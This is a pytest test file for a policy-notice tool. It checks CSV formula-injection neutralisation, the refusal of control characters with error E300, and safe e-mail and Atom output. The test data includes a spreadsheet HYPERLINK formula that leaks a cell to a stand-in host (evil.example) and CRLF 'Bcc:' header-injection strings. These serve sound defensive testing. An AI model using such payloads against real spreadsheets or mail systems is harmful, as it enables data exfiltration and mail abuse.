"""Text that reaches a spreadsheet, a mail system or a feed reader: formula cells neutralised in
the CSV export, control characters refused where text enters (policy.toml, `policy release`,
release records: E300) and never written into an e-mail header or the Atom XML."""

import csv
import dataclasses
import email
import email.policy
import io
import json
import xml.etree.ElementTree as ET
from datetime import date

import feedparser
import pytest

from conftest import run_policy
from release_helpers import make_project as make_git_project
from release_helpers import release, state
from test_notices import load, make_project
from tooling.notices import atom, csv_export
from tooling.notices import email as email_export
from tooling.notices.notices import build_notices
from tooling.text_rules import TextError, check_text, find_control, header_text, xml_text

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


# --- CSV: formula injection (OWASP) --------------------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("＝1+1", "'＝1+1"), ("隐私声明", "隐私声明"),
    ("2026-12-01", "2026-12-01"), ("https://policies.example.cn/", "https://policies.example.cn/"),
    ("a=b", "a=b"), ("", ""),
])
def test_cells_that_could_start_a_formula_are_prefixed_with_a_quote(cell, expected):
    assert csv_export.neutralise(cell) == expected


def test_a_summary_with_a_formula_is_text_in_the_exported_csv(tmp_path):
    root, _ = make_git_project(tmp_path)
    release(root, summary=["--summary-zh", FORMULA, "--summary-en", "-1 day: @notice +more"], check=0)
    out = run_policy("notices", "export", "--format", "csv", "--as-of", "2026-12-01", cwd=root, check=0).stdout
    rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff"))))
    by_lang = {row["language"]: row for row in rows}
    assert by_lang["zh"]["summary"] == "'" + FORMULA
    assert by_lang["en"]["summary"] == "'-1 day: @notice +more"
    assert by_lang["zh"]["title"] == "关于发布《隐私声明》的通知"          # ordinary cells unchanged
    for row in rows:
        assert not any(value and value[0] in "=+-@\t\r" for value in row.values()), row


# --- control characters refused where text enters -------------------------------------------------

@pytest.mark.parametrize("text, multiline, found", [
    ("隐私声明", False, None), ("第一行\n第二行", True, None), ("a\tb", True, None),
    ("a\nb", False, (1, "\n")), ("a\r\nBcc: x", True, (1, "\r")), ("a\x0cb", True, (1, "\x0c")),
    ("\x00", True, (0, "\x00")), ("a\u2028b", True, (1, "\u2028")), ("a\x85", True, (1, "\x85")),
    ("隐私\u3000声明", False, None),
])
def test_find_control(text, multiline, found):
    assert find_control(text, multiline) == found


def test_the_message_names_the_field_the_character_and_its_position():
    with pytest.raises(TextError) as err:
        check_text("Wording corrected.\r\nBcc: all@example.com", "the en summary (--summary-en)", multiline=True)
    assert err.value.code == "E300"
    assert "the en summary (--summary-en)" in err.value.message
    assert "U+000D (carriage return), at character 19" in err.value.message
    assert "[U+000D][U+000A]Bcc" in err.value.message


def test_release_refuses_a_summary_with_a_carriage_return_and_writes_nothing(tmp_path):
    root, repo = make_git_project(tmp_path)
    before = state(root, repo)
    result = release(root, summary=["--summary-zh", "更正第2.1条的措辞。",
                                    "--summary-en", "Wording corrected.\r\nBcc: everyone@example.com"])
    assert result.returncode == 2
    assert "error E300: the en summary (--summary-en) contains an invisible control character, U+000D" in result.stderr
    assert "Traceback" not in result.stderr
    assert state(root, repo) == before


def test_a_title_with_a_form_feed_in_policy_toml_is_refused_with_its_line(tmp_path):
    root, _ = make_git_project(tmp_path)
    toml = (root / "policy.toml").read_text(encoding="utf-8")
    (root / "policy.toml").write_text(toml.replace('en = "Privacy Statement"', 'en = "Privacy\\fStatement"'),
                                      encoding="utf-8")
    line = next(n for n, text in enumerate(toml.split("\n"), 1) if text.startswith("title ="))
    result = run_policy("check", cwd=root, check=2)
    assert f"policy.toml:{line}: error E300: [documents.privacy] title.en contains an invisible control " \
           "character, U+000C (form feed)" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_release_record_edited_to_hold_a_header_injection_is_reported(tmp_path):
    root = make_project(tmp_path / "project")
    record = next((root / "releases" / "privacy").glob("*/release.json"))
    data = json.loads(record.read_text(encoding="utf-8"))
    data["title"]["en"] = "Privacy Statement\r\nBcc: everyone@example.com"
    record.write_text(json.dumps(data, ensure_ascii=False, indent=2), encoding="utf-8")
    result = run_policy("check", cwd=root)
    assert result.returncode == 2
    line = next(n for n, text in enumerate(record.read_text(encoding="utf-8").split("\n"), 1) if "Bcc" in text)
    assert f"{record.relative_to(root)}:{line}:1: error E300: release record: title.en contains an invisible control " \
           "character, U+000D" in result.stderr + result.stdout
    exported = run_policy("notices", "export", "--format", "email", cwd=root)
    assert exported.returncode == 2 and "E300" in exported.stderr and "Traceback" not in exported.stderr


# --- defence in depth: the exporters never write a control character into a header or XML ---------

@pytest.fixture(scope="module")
def tainted(tmp_path_factory):
    """Notices whose titles and summaries hold control characters (as if a reader had let them
    through): the exporters must still write well-formed mail and XML."""
    config, releases = load(make_project(tmp_path_factory.mktemp("tainted") / "project"))
    notices = build_notices(config, releases, date(2030, 1, 1))
    bad = "\r\nBcc: everyone@example.com\x0c\x00"
    out = [dataclasses.replace(n, title={k: v + bad for k, v in n.title.items()},
                               summary={k: v + bad for k, v in n.summary.items()},
                               document_title={k: v + "\x0c" for k, v in n.document_title.items()})
           for n in notices]
    return config, out


def test_email_headers_never_carry_a_line_break_or_a_control_character(tainted):
    config, notices = tainted
    messages = email_export.render_messages(notices, config, ["zh", "en"])
    for message in messages:
        assert find_control(message.subject) is None, message.subject
        parsed = email.message_from_bytes(email_export.to_eml(message), policy=email.policy.default)
        assert "Subject" in parsed and set(parsed.keys()) <= {
            "Subject", "Content-Language", "Content-Type", "MIME-Version", "X-Policy-Notice"}, parsed.keys()
        assert parsed["Bcc"] is None
        assert "Bcc: everyone@example.com" in parsed["Subject"]      # shown as text, on one line
        assert find_control(str(parsed["Subject"])) is None
    data = json.loads(email_export.messages_json(messages))
    assert all("\r" not in m["subject"] and "\n" not in m["subject"] for m in data)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_atom_feed_stays_well_formed_xml(tainted, lang):
    config, notices = tainted
    body = atom.render(notices, config, lang, date(2030, 1, 1))
    ET.fromstring(body)                                   # a strict XML parser accepts it
    parsed = feedparser.parse(body)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert len(parsed.entries) == len(notices)
    assert "Bcc: everyone@example.com" in parsed.entries[0].title


def test_header_and_xml_text():
    assert header_text("A\r\nBcc: x\x0c y") == "A Bcc: x y"
    assert header_text("隐私声明（修订）") == "隐私声明（修订）"
    assert xml_text("a\x0cb\x00\nc\td") == "ab\nc\td"
